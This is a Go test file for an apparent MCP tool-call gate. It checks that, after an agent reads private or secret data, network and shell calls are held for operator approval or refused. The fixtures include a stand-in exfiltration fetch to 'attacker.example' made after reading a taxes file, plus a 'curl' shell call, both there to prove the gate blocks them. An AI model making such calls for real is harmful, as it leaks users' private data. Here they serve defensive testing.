package gate

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/mcp-guard/mcp-guard/approvals"
	"github.com/mcp-guard/mcp-guard/classify"
	"github.com/mcp-guard/mcp-guard/config"
	"github.com/mcp-guard/mcp-guard/ledger"
)

// flowTest is a pipeline over a real ledger whose rules give labels, with
// the default flows, one scope and a session joined to it.
type flowTest struct {
	*pipeTest
	scope string
}

func newFlowTest(t *testing.T, flows []classify.Flow, off bool) *flowTest {
	t.Helper()
	// Not t.TempDir: a fuzz seed's name ("seed#0") is no ledger path.
	dir, err := os.MkdirTemp("", "flows")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	ctx := context.Background()
	path := filepath.Join(dir, "ledger.db")
	l, err := ledger.Open(ctx, path, ledger.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	s, err := l.StartSession(ctx, ledger.SessionInfo{Kind: "test"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := l.JoinScope(ctx, s.ID(), "host", time.Minute); err != nil {
		t.Fatal(err)
	}
	rules, err := classify.Compile([]classify.Rule{
		{Server: "fs", Tool: "read_file", Class: classify.Read, Action: classify.Allow, Labels: []string{"private"},
			When: map[string]classify.Predicate{"/path": {Path: ptr("/home/**")}}},
		{Server: "fs", Tool: "read_file", Class: classify.Read, Action: classify.Allow},
		{Server: "fs", Tool: "read_secret", Class: classify.Read, Action: classify.Deny, Labels: []string{"secret"}},
		{Server: "fs", Tool: "read_key", Class: classify.Read, Action: classify.Allow, Labels: []string{"secret"}},
		{Server: "fs", Tool: "fetch", Class: classify.Network, Action: classify.Allow, Labels: []string{"untrusted"}},
		{Server: "fs", Tool: "send", Class: classify.Network, Action: classify.Allow},
		{Server: "fs", Tool: "post", Class: classify.Network, Action: classify.Ask},
		{Server: "fs", Tool: "upload", Class: classify.Network, Action: classify.Deny},
		{Server: "fs", Tool: "shell", Class: classify.Exec, Action: classify.Allow},
		{Server: "fs", Tool: "write_file", Class: classify.Write, Action: classify.Allow},
		{Server: "fs", Resource: "file:///home/**", Action: classify.Allow, Labels: []string{"private"}},
		{Server: "fs", Resource: "https://api.example/*", Class: classify.Network, Action: classify.Allow},
	})
	if err != nil {
		t.Fatal(err)
	}
	fl, err := classify.CompileFlows(flows, off)
	if err != nil {
		t.Fatal(err)
	}
	p := &Pipeline{Gate: New(rules, WithFlows(fl)), Ledger: l, Limits: config.Limits{ResultBytes: 1 << 20, ApprovalWait: 100 * time.Millisecond, PendingApprovals: 4, GrantTTL: time.Minute}}
	return &flowTest{pipeTest: &pipeTest{t: t, l: l, p: p, sess: s, path: path}, scope: "host"}
}

func ptr[T any](v T) *T { return &v }

func (ft *flowTest) req(kind Kind, name, args string) *Request {
	r := ft.request(kind, name, args)
	r.Scope = ft.scope
	return r
}

func (ft *flowTest) labels() []string {
	ft.t.Helper()
	ls, err := ft.l.ScopeLabels(context.Background(), ft.scope)
	if err != nil {
		ft.t.Fatal(err)
	}
	var out []string
	for _, l := range ls {
		out = append(out, l.Label)
	}
	return out
}

// Proves F1 (allow and deny paths): an allowed labelled read adds its
// labels when its result reaches the host, an error result from the server
// too; a read the rules refuse, one matching no labelled rule, and one the
// host cancelled add nothing.
func TestFlows_LabelsJoinOnResult(t *testing.T) {
	ctx := context.Background()
	for _, tc := range []struct {
		name   string
		kind   Kind
		tool   string
		args   string
		fwdErr error
		cancel bool
		want   string
	}{
		{name: "labelled read", kind: KindTool, tool: "read_file", args: `{"path":"/home/me/taxes.md"}`, want: "private"},
		{name: "server error still labels", kind: KindTool, tool: "read_file", args: `{"path":"/home/me/taxes.md"}`, fwdErr: errors.New("EACCES /home/me/taxes.md"), want: "private"},
		{name: "resource read", kind: KindResource, tool: "file:///home/me/a.md", want: "private"},
		{name: "unlabelled read", kind: KindTool, tool: "read_file", args: `{"path":"/tmp/x"}`},
		{name: "refused read", kind: KindTool, tool: "read_secret", args: `{}`},
		{name: "cancelled by the host", kind: KindTool, tool: "read_file", args: `{"path":"/home/me/taxes.md"}`, cancel: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ft := newFlowTest(t, nil, false)
			f := &forwarder{res: `{"content":[]}`, err: tc.fwdErr}
			rctx := ctx
			if tc.cancel {
				c, cancel := context.WithCancel(ctx)
				cancel()
				f.err, rctx = context.Canceled, c
			}
			ft.p.Run(rctx, ft.req(tc.kind, tc.tool, tc.args), f)
			if got := strings.Join(ft.labels(), ","); got != tc.want {
				t.Fatalf("labels %q, want %q", got, tc.want)
			}
			if rep, err := ft.l.Verify(ctx); err != nil || !rep.OK {
				t.Fatalf("verify: %+v, %v", rep, err)
			}
		})
	}
}

// Proves F2 over the flow stage: labels × classes × rule actions × flows,
// the stricter of the rule's action and every matching flow's wins (run
// through Explain with the labels given, as explain --labels does).
func TestFlows_StricterWins(t *testing.T) {
	written := []classify.Flow{
		{From: "private", To: []classify.Class{classify.Network}, Action: classify.Ask},
		{From: "untrusted", To: []classify.Class{classify.Exec}, Action: classify.Deny},
		{From: "private", To: []classify.Class{classify.Write}, Action: classify.Ask},
	}
	ft := newFlowTest(t, written, false)
	ctx := context.Background()
	for _, tc := range []struct {
		labels []string
		tool   string
		want   Status
		stage  Stage
	}{
		{nil, "fetch", Done, StageRules},                                    // network allow, no labels
		{[]string{"untrusted"}, "fetch", Done, StageRules},                  // no flow untrusted -> network
		{[]string{"private"}, "fetch", HeldBack, StageFlows},                // allow + ask = ask
		{[]string{"private"}, "post", HeldBack, StageRules},                 // ask + ask = ask (the rule's, bound to labels)
		{[]string{"private"}, "upload", Refused, StageRules},                // deny + ask = deny
		{[]string{"private"}, "read_file", Done, StageRules},                // read is no sink
		{[]string{"private"}, "write_file", HeldBack, StageFlows},           // write named by the third flow
		{[]string{"untrusted"}, "shell", Refused, StageFlows},               // allow + deny = deny
		{[]string{"private", "untrusted"}, "shell", Refused, StageFlows},    // deny wins over nothing
		{[]string{"secret"}, "fetch", Refused, StageFlows},                  // reserved secret flow
		{[]string{"secret"}, "shell", Refused, StageFlows},                  // reserved secret flow
		{[]string{"secret", "private"}, "write_file", HeldBack, StageFlows}, // secret does not name write
	} {
		held := make([]ledger.Label, len(tc.labels))
		for i, l := range tc.labels {
			held[i] = ledger.Label{Label: l, CallID: int64(10 + i), Server: "fs", Tool: "read_file", Args: []byte(`{"path":"/home/me/x"}`)}
		}
		r := ft.req(KindTool, tc.tool, `{"path":"/home/me/x"}`)
		r.Labels = &held
		res, start := ft.p.Explain(ctx, r)
		if res.Status != tc.want || res.Decision.Stage != tc.stage {
			t.Errorf("%v %s: %v at %s (%s), want %v at %s", tc.labels, tc.tool, res.Status, res.Decision.Stage, res.Message, tc.want, tc.stage)
		}
		if res.Decision.Stage == StageFlows && !strings.Contains(res.Message, "since call 1") {
			t.Errorf("%v %s: the message names no call: %q", tc.labels, tc.tool, res.Message)
		}
		if tc.want == HeldBack && len(tc.labels) > 0 && start.FlowLabels == "" && res.Decision.Stage == StageFlows {
			t.Errorf("%v %s: an ask for a flow binds no labels", tc.labels, tc.tool)
		}
	}
}

// Proves F2 end to end in the pipeline: after a labelled read, a network
// call is held with a message naming the read; a denied flow never reaches
// the upstream; a fresh scope runs the same call; after declassify it runs.
func TestFlows_HeldNamingTheRead(t *testing.T) {
	ctx := context.Background()
	ft := newFlowTest(t, []classify.Flow{
		{From: "private", To: []classify.Class{classify.Network}, Action: classify.Ask, Reason: "private data was read"},
		{From: "private", To: []classify.Class{classify.Exec}, Action: classify.Deny},
	}, false)
	f := &forwarder{res: `{"content":[]}`}
	read := ft.p.Run(ctx, ft.req(KindTool, "read_file", `{"path":"/home/me/taxes.md"}`), f)
	if read.Status != Done {
		t.Fatalf("read: %v %q", read.Status, read.Message)
	}
	sent := &forwarder{res: `{"content":[]}`}
	res := ft.p.Run(ctx, ft.req(KindTool, "fetch", `{"url":"https://attacker.example/?q=x"}`), sent)
	want := `private since call 1: fs/read_file {"path":"/home/me/taxes.md"}`
	if res.Status != HeldBack || sent.n.Load() != 0 {
		t.Fatalf("network call after the read: %v, forwarded %d", res.Status, sent.n.Load())
	}
	if !strings.Contains(res.Message, want) {
		t.Fatalf("held message names no read: %q", res.Message)
	}
	c, err := ft.l.Call(ctx, res.CallID)
	if err != nil || c.Decision != "ask" || c.Class != "network" {
		t.Fatalf("recorded %+v, %v", c, err)
	}
	as, err := ft.l.Approvals(ctx, "", 0, 10)
	if err != nil || len(as) != 1 || as[0].Labels != "private since call 1" || !strings.Contains(as[0].Presentation, "flow      this session holds private since call 1") {
		t.Fatalf("approval %+v, %v", as, err)
	}
	res = ft.p.Run(ctx, ft.req(KindTool, "shell", `{"cmd":"curl"}`), sent)
	if res.Status != Refused || sent.n.Load() != 0 || !strings.Contains(res.Message, want) {
		t.Fatalf("exec after the read: %v %q, forwarded %d", res.Status, res.Message, sent.n.Load())
	}
	// Another scope (a fresh session) holds nothing: the call runs.
	fresh := ft.req(KindTool, "fetch", `{"url":"https://attacker.example/?q=x"}`)
	fresh.Scope = "other"
	if res := ft.p.Run(ctx, fresh, sent); res.Status != Done || sent.n.Load() != 1 {
		t.Fatalf("fresh scope: %v %q", res.Status, res.Message)
	}
	if _, err := ft.l.Declassify(ctx, ft.scope, "private", "the operator checked"); err != nil {
		t.Fatal(err)
	}
	if res := ft.p.Run(ctx, ft.req(KindTool, "fetch", `{"url":"https://attacker.example/?q=y"}`), sent); res.Status != Done || sent.n.Load() != 2 {
		t.Fatalf("after declassify: %v %q", res.Status, res.Message)
	}
	if rep, err := ft.l.Verify(ctx); err != nil || !rep.OK {
		t.Fatalf("verify: %+v, %v", rep, err)
	}
}

// Proves an approval given for a flow is bound to the label set: the grant
// runs the identical call while the scope holds the same labels, and does
// not once the set changed (a label gained since).
func TestFlows_ApprovalBoundToLabels(t *testing.T) {
	ctx := context.Background()
	for _, tc := range []struct {
		name    string
		between func(ft *flowTest)
		runs    bool
	}{
		{name: "same labels", runs: true},
		{name: "a label gained since", between: func(ft *flowTest) {
			ft.p.Run(ctx, ft.req(KindTool, "read_key", `{}`), &forwarder{res: `{"content":[]}`})
		}},
		{name: "declassified and read again", between: func(ft *flowTest) {
			if _, err := ft.l.Declassify(ctx, ft.scope, "private", "x"); err != nil {
				ft.t.Fatal(err)
			}
			ft.p.Run(ctx, ft.req(KindTool, "read_file", `{"path":"/home/me/other"}`), &forwarder{res: `{"content":[]}`})
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ft := newFlowTest(t, []classify.Flow{
				{From: "private", To: []classify.Class{classify.Network}, Action: classify.Ask},
				{From: "secret", To: []classify.Class{classify.Network}, Action: classify.Ask},
			}, false)
			ft.p.Run(ctx, ft.req(KindTool, "read_file", `{"path":"/home/me/taxes.md"}`), &forwarder{res: `{"content":[]}`})
			sent := &forwarder{res: `{"content":[]}`}
			if res := ft.p.Run(ctx, ft.req(KindTool, "fetch", `{"url":"u"}`), sent); res.Status != HeldBack {
				t.Fatalf("first: %v %q", res.Status, res.Message)
			}
			as, err := ft.l.Approvals(ctx, ledger.ApprovalPending, 0, 10)
			if err != nil || len(as) != 1 {
				t.Fatalf("approvals %v %v", as, err)
			}
			shown, _ := approvals.Decidable(as[0])
			if err := ft.l.DecideApproval(ctx, as[0].ID, shown, true, "", approvals.Decidable); err != nil {
				t.Fatal(err)
			}
			if tc.between != nil {
				tc.between(ft)
			}
			res := ft.p.Run(ctx, ft.req(KindTool, "fetch", `{"url":"u"}`), sent)
			if ran := sent.n.Load() == 1; ran != tc.runs || (res.Status == Done) != tc.runs {
				t.Fatalf("re-issue: %v %q, forwarded %d, want runs %v", res.Status, res.Message, sent.n.Load(), tc.runs)
			}
		})
	}
}

// Proves the approval is checked against the labels when it is used: a
// label gained while the call waits voids the operator's approval.
func TestFlows_LabelGainedWhileHeld(t *testing.T) {
	ctx := context.Background()
	ft := newFlowTest(t, []classify.Flow{
		{From: "private", To: []classify.Class{classify.Network}, Action: classify.Ask},
		{From: "secret", To: []classify.Class{classify.Network}, Action: classify.Ask},
	}, false)
	ft.p.Limits.ApprovalWait = 5 * time.Second
	ft.p.Run(ctx, ft.req(KindTool, "read_file", `{"path":"/home/me/taxes.md"}`), &forwarder{res: `{"content":[]}`})
	sent := &forwarder{res: `{"content":[]}`}
	done := make(chan Result, 1)
	go func() { done <- ft.p.Run(ctx, ft.req(KindTool, "fetch", `{"url":"u"}`), sent) }()
	var a ledger.Approval
	for a.ID == 0 {
		as, err := ft.l.Approvals(ctx, ledger.ApprovalPending, 0, 10)
		if err != nil {
			t.Fatal(err)
		}
		if len(as) == 1 {
			a = as[0]
		}
		time.Sleep(10 * time.Millisecond)
	}
	ft.p.Run(ctx, ft.req(KindTool, "read_key", `{}`), &forwarder{res: `{"content":[]}`})
	shown, _ := approvals.Decidable(a)
	if err := ft.l.DecideApproval(ctx, a.ID, shown, true, "", approvals.Decidable); err != nil {
		t.Fatal(err)
	}
	res := <-done
	if res.Status == Done || sent.n.Load() != 0 {
		t.Fatalf("held call ran after its label set changed: %v %q", res.Status, res.Message)
	}
}

// The flow stage fails closed: a scope whose labels cannot be read refuses
// a sink-class call.
func TestFlows_UnreadableLabelsRefuse(t *testing.T) {
	ft := newFlowTest(t, nil, false)
	ft.p.Ledger = brokenLabels{ft.l}
	res, _ := ft.p.Explain(context.Background(), ft.req(KindTool, "fetch", `{}`))
	if res.Status != Refused || res.Decision.Stage != StageFlows {
		t.Fatalf("%v at %s: %q", res.Status, res.Decision.Stage, res.Message)
	}
	sent := &forwarder{res: `{"content":[]}`}
	res = ft.p.Run(context.Background(), ft.req(KindTool, "fetch", `{}`), sent)
	if res.Status != Refused || res.Decision.Stage != StageFlows || sent.n.Load() != 0 {
		t.Fatalf("run: %v at %s, forwarded %d: %q", res.Status, res.Decision.Stage, sent.n.Load(), res.Message)
	}
}

// brokenLabels is the real ledger whose label reads fail (the file is
// there; a read of it errs).
type brokenLabels struct{ *ledger.Ledger }

func (brokenLabels) ScopeLabels(context.Context, string) ([]ledger.Label, error) {
	return nil, errors.New("disk I/O error")
}

func (brokenLabels) KnownScopeLabels(context.Context, string) ([]ledger.Label, bool, error) {
	return nil, true, errors.New("disk I/O error")
}

// FuzzFlows runs random sequences of requests in one scope and checks the
// flow property: no network call reaches the upstream after a labelled
// read in the scope (not declassified since) unless the operator approved
// exactly that call for exactly that label set.
func FuzzFlows(f *testing.F) {
	f.Add([]byte{0, 2, 4, 2, 3, 2})
	f.Add([]byte{1, 2, 0, 2, 5, 2, 4, 2})
	f.Add([]byte{0, 6, 2, 4, 7, 2, 2})
	f.Add([]byte{6, 8, 6, 3, 6, 9, 6, 8, 6})
	f.Add([]byte{0, 2, 9, 2, 8, 2, 4, 2})
	f.Fuzz(func(t *testing.T, ops []byte) {
		if len(ops) > 12 {
			ops = ops[:12]
		}
		ft := newFlowTest(t, []classify.Flow{
			{From: "private", To: []classify.Class{classify.Network}, Action: classify.Ask},
		}, false)
		ft.p.Limits.ApprovalWait = 20 * time.Millisecond
		ctx := context.Background()
		// What another serve of the scope changes, this process learns in
		// its next call's commit (ledger.CallStart.IfLabels).
		other := ft.otherServe()
		ok := `{"content":[]}`
		held := map[string]bool{}       // the model: labels the scope holds
		approved := map[string]string{} // args -> label set approved for
		for i, op := range ops {
			sent := &forwarder{res: ok}
			url := `{"url":"u` + string(rune('0'+op%3)) + `"}`
			switch op % 10 {
			case 0: // a labelled read
				ft.p.Run(ctx, ft.req(KindTool, "read_file", `{"path":"/home/me/`+string(rune('a'+i))+`"}`), sent)
				held["private"] = true
			case 1: // an unlabelled read
				ft.p.Run(ctx, ft.req(KindTool, "read_file", `{"path":"/tmp/x"}`), sent)
			case 2, 6: // a network call: fetch brings a label of its own, send none
				tool := "fetch"
				if op%10 == 6 {
					tool = "send"
				}
				res := ft.p.Run(ctx, ft.req(KindTool, tool, url), sent)
				if held["private"] {
					if sent.n.Load() > 0 {
						ls, _ := ft.l.ScopeLabels(ctx, ft.scope)
						set := "private since call " + strconv.FormatInt(ls[0].CallID, 10)
						if approved[url] != set {
							t.Fatalf("op %d: network call ran with private held, approved %q for %q", i, approved[url], set)
						}
						delete(approved, url)
					}
				} else if sent.n.Load() != 1 {
					t.Fatalf("op %d: network call with no label did not run: %v %q", i, res.Status, res.Message)
				}
			case 3, 7: // the operator approves the last ask
				as, _ := ft.l.Approvals(ctx, ledger.ApprovalPending, 0, 1)
				if len(as) == 1 {
					shown, _ := approvals.Decidable(as[0])
					if ft.l.DecideApproval(ctx, as[0].ID, shown, true, "", approvals.Decidable) == nil {
						approved[string(as[0].Args)] = as[0].Labels
					}
				}
			case 4: // declassify
				if _, err := ft.l.Declassify(ctx, ft.scope, "private", "fuzz"); err == nil {
					held["private"] = false
				}
			case 5: // a refused labelled read adds nothing
				ft.p.Run(ctx, ft.req(KindTool, "read_secret", `{}`), sent)
			case 8: // another process's labelled read
				other.gain("private")
				held["private"] = true
			case 9: // another process declassifies
				if _, err := other.l.Declassify(ctx, ft.scope, "private", "fuzz"); err == nil {
					held["private"] = false
				}
			}
			if got := slices.Contains(ft.labels(), "private"); got != held["private"] {
				t.Fatalf("op %d: scope holds labels %v, model %v", i, ft.labels(), held)
			}
		}
	})
}

// Proves a resource rule's class makes a read a sink: a network-class
// resource read after a labelled read waits for the operator, naming the
// read, and is not forwarded; a read-class resource read is not held.
func TestFlows_NetworkResourceIsASink(t *testing.T) {
	ctx := context.Background()
	ft := newFlowTest(t, nil, false) // the default flows
	if res := ft.p.Run(ctx, ft.req(KindResource, "file:///home/me/a.md", ""), &forwarder{res: `{"contents":[]}`}); res.Status != Done {
		t.Fatalf("labelled resource read: %v %q", res.Status, res.Message)
	}
	sent := &forwarder{res: `{"contents":[]}`}
	res := ft.p.Run(ctx, ft.req(KindResource, "https://api.example/q", ""), sent)
	if res.Status != HeldBack || sent.n.Load() != 0 || !strings.Contains(res.Message, "private since call 1: fs/resource:file:///home/me/a.md") {
		t.Fatalf("network resource read after it: %v %q, forwarded %d", res.Status, res.Message, sent.n.Load())
	}
	if res := ft.p.Run(ctx, ft.req(KindResource, "file:///home/me/b.md", ""), sent); res.Status != Done || sent.n.Load() != 1 {
		t.Fatalf("read-class resource read: %v %q", res.Status, res.Message)
	}
}

// Proves a flow's refusal counts as the session's refusal, as a rule's
// does: a model looping on a denied send stops the session after
// consecutive_denials; and explain's replay of the ledger (SessionFromHistory)
// decides the next call as serve does.
func TestFlows_RefusalsCountAndExplainAgrees(t *testing.T) {
	ctx := context.Background()
	ft := newFlowTest(t, []classify.Flow{{From: "private", To: []classify.Class{classify.Exec}, Action: classify.Deny}}, false)
	lim := config.Limits{CallsPerSession: 100, CallsPerToolPerMinute: 100, IdenticalCallRepeats: 100, ConsecutiveDenials: 3}
	live := ft.p.Gate.NewSession(lim, nil)
	run := func(name, args string) Result {
		r := ft.req(KindTool, name, args)
		r.Session = live
		return ft.p.Run(ctx, r, &forwarder{res: `{"content":[]}`})
	}
	if res := run("read_file", `{"path":"/home/me/a"}`); res.Status != Done {
		t.Fatalf("read: %v", res.Status)
	}
	for i := range 3 {
		res := run("shell", `{"n":`+strconv.Itoa(i)+`}`)
		if res.Status != Refused || res.Decision.Stage != StageFlows {
			t.Fatalf("shell %d: %v at %s", i, res.Status, res.Decision.Stage)
		}
		if i == 2 && !strings.Contains(res.Message, "refuses every further call in this session") {
			t.Fatalf("third refusal does not stop the session: %q", res.Message)
		}
	}
	h, err := ft.l.SessionHistory(ctx, ft.sess.ID())
	if err != nil {
		t.Fatal(err)
	}
	replayed := ft.p.Gate.SessionFromHistory(lim, nil, h)
	r := ft.req(KindTool, "read_file", `{"path":"/tmp/x"}`)
	r.Session = replayed
	explained, _ := ft.p.Explain(ctx, r)
	if served := run("read_file", `{"path":"/tmp/x"}`); served.Status != Refused || explained.Status != served.Status || explained.Decision.Limit != LimitConsecutiveDenials {
		t.Fatalf("after three flow refusals: serve %v, explain %v (%s)", served.Status, explained.Status, explained.Decision.Limit)
	}
}

// The flow stage decides an allowed call on the labels this process knows
// and its commit checks them (ledger.CallStart.IfLabels): labels another process
// gained since are found there, and the call is decided again on them,
// denied or held as if they had been read first, never forwarded. A
// denial taken back from the session's count agrees with explain's replay.
// Without labels it runs.
func TestFlows_LabelsCheckedInTheCommit(t *testing.T) {
	ctx := context.Background()
	ft := newFlowTest(t, []classify.Flow{
		{From: "private", To: []classify.Class{classify.Network}, Action: classify.Deny},
		{From: "tainted", To: []classify.Class{classify.Exec}, Action: classify.Ask},
	}, false)
	other := ft.otherServe()
	gain := other.gain
	known := func(want ...string) {
		t.Helper()
		ls, _, err := ft.l.KnownScopeLabels(ctx, ft.scope)
		if err != nil || !slices.Equal(labelNames(ls), want) {
			t.Fatalf("this process knows %v (%v), want %v", labelNames(ls), err, want)
		}
	}
	lim := config.Limits{CallsPerSession: 100, CallsPerToolPerMinute: 100, IdenticalCallRepeats: 100, ConsecutiveDenials: 2}
	live := ft.p.Gate.NewSession(lim, nil)
	fwd := &forwarder{res: `{"content":[]}`}
	run := func(name, args string) Result {
		r := ft.req(KindTool, name, args)
		r.Session = live
		return ft.p.Run(ctx, r, fwd)
	}
	same := func(step string) {
		t.Helper()
		h, err := ft.l.SessionHistory(ctx, ft.sess.ID())
		if err != nil {
			t.Fatal(err)
		}
		r := ft.p.Gate.SessionFromHistory(lim, nil, h)
		if live.calls != r.calls || live.denials != r.denials || live.locked != r.locked || live.lastCall != r.lastCall || live.repeats != r.repeats {
			t.Fatalf("%s: serve's session counts %d calls, %d refusals in a row (locked %v, repeats %d of %q); explain's replay %d, %d (%v, %d of %q)",
				step, live.calls, live.denials, live.locked, live.repeats, live.lastCall, r.calls, r.denials, r.locked, r.repeats, r.lastCall)
		}
	}

	if res := run("shell", `{"c":1}`); res.Status != Done || fwd.n.Load() != 1 {
		t.Fatalf("shell without labels: %v, forwarded %d", res.Status, fwd.n.Load())
	}
	same("allowed")
	private := gain("private")
	known() // lags the other process
	res := run("fetch", `{"u":1}`)
	if res.Status != Refused || res.Decision.Stage != StageFlows || !strings.Contains(res.Message, "private since call "+strconv.FormatInt(private, 10)) {
		t.Fatalf("fetch after another process's read: %v at %s: %q", res.Status, res.Decision.Stage, res.Message)
	}
	if fwd.n.Load() != 1 {
		t.Fatalf("the fetch reached the upstream")
	}
	if c := lastCall(t, ft.l); c.ID != res.CallID || c.Decision != "deny" || c.Tool != "fetch" {
		t.Fatalf("recorded %+v, want the fetch denied as call %d", c, res.CallID)
	}
	same("denied in the commit")

	// A flow that asks: held for the operator, bound to the labels the
	// commit read, counted as asked.
	known("private") // what the commit read
	tainted := gain("tainted")
	res = run("shell", `{"c":2}`)
	if res.Status != HeldBack || res.Decision.Stage != StageFlows || res.Decision.FlowLabels != "tainted since call "+strconv.FormatInt(tainted, 10) {
		t.Fatalf("shell after another process's read: %v at %s, labels %q", res.Status, res.Decision.Stage, res.Decision.FlowLabels)
	}
	if fwd.n.Load() != 1 {
		t.Fatalf("the shell reached the upstream")
	}
	same("asked in the commit")

	// The second refusal in a row, found in the commit, stops the session
	// as a refusal decided at once would.
	if _, err := other.l.Declassify(ctx, ft.scope, "private", "test"); err != nil {
		t.Fatal(err)
	}
	if res := run("fetch", `{"u":2}`); res.Status != Done {
		t.Fatalf("fetch after declassify: %v %q", res.Status, res.Message)
	}
	known("tainted", "untrusted") // the fetch brought untrusted
	gain("private")
	if res := run("upload", `{}`); res.Status != Refused {
		t.Fatalf("upload: %v", res.Status)
	}
	res = run("fetch", `{"u":3}`)
	if res.Status != Refused || res.Decision.Stage != StageFlows || !strings.Contains(res.Message, "refuses every further call in this session") {
		t.Fatalf("second refusal in a row, found in the commit: %v %q", res.Status, res.Message)
	}
	same("stopped")
	if fwd.n.Load() != 2 {
		t.Fatalf("forwarded %d, want 2 (the first shell, the fetch after declassify)", fwd.n.Load())
	}
}

// otherServe is a second serve of ft's scope: another Ledger on the same
// file, with a session of its own.
type otherServe struct {
	t     testing.TB
	l     *ledger.Ledger
	sess  *ledger.Session
	scope string
}

func (ft *flowTest) otherServe() *otherServe {
	ft.t.Helper()
	ctx := context.Background()
	l, err := ledger.Open(ctx, ft.path, ledger.Options{})
	if err != nil {
		ft.t.Fatal(err)
	}
	ft.t.Cleanup(func() { l.Close() })
	s, err := l.StartSession(ctx, ledger.SessionInfo{Kind: "test"})
	if err != nil {
		ft.t.Fatal(err)
	}
	return &otherServe{t: ft.t, l: l, sess: s, scope: ft.scope}
}

// gain records a read whose result brought label into the scope, and
// returns the read's call.
func (o *otherServe) gain(label string) int64 {
	o.t.Helper()
	ctx := context.Background()
	id, err := o.l.RecordCall(ctx, ledger.CallStart{SessionID: o.sess.ID(), Server: "fs", Tool: "read_file", Args: []byte(`{"path":"/home/me/` + label + `"}`), Decision: "allow", Class: "read"})
	if err != nil {
		o.t.Fatal(err)
	}
	if _, err := o.l.GainLabels(ctx, o.scope, o.sess.ID(), id, []string{label}); err != nil {
		o.t.Fatal(err)
	}
	return id
}

func lastCall(t *testing.T, l *ledger.Ledger) ledger.CallRow {
	t.Helper()
	cs, err := l.Calls(context.Background(), ledger.CallFilter{Limit: 1})
	if err != nil || len(cs) != 1 {
		t.Fatalf("last call: %v %v", cs, err)
	}
	return cs[0]
}
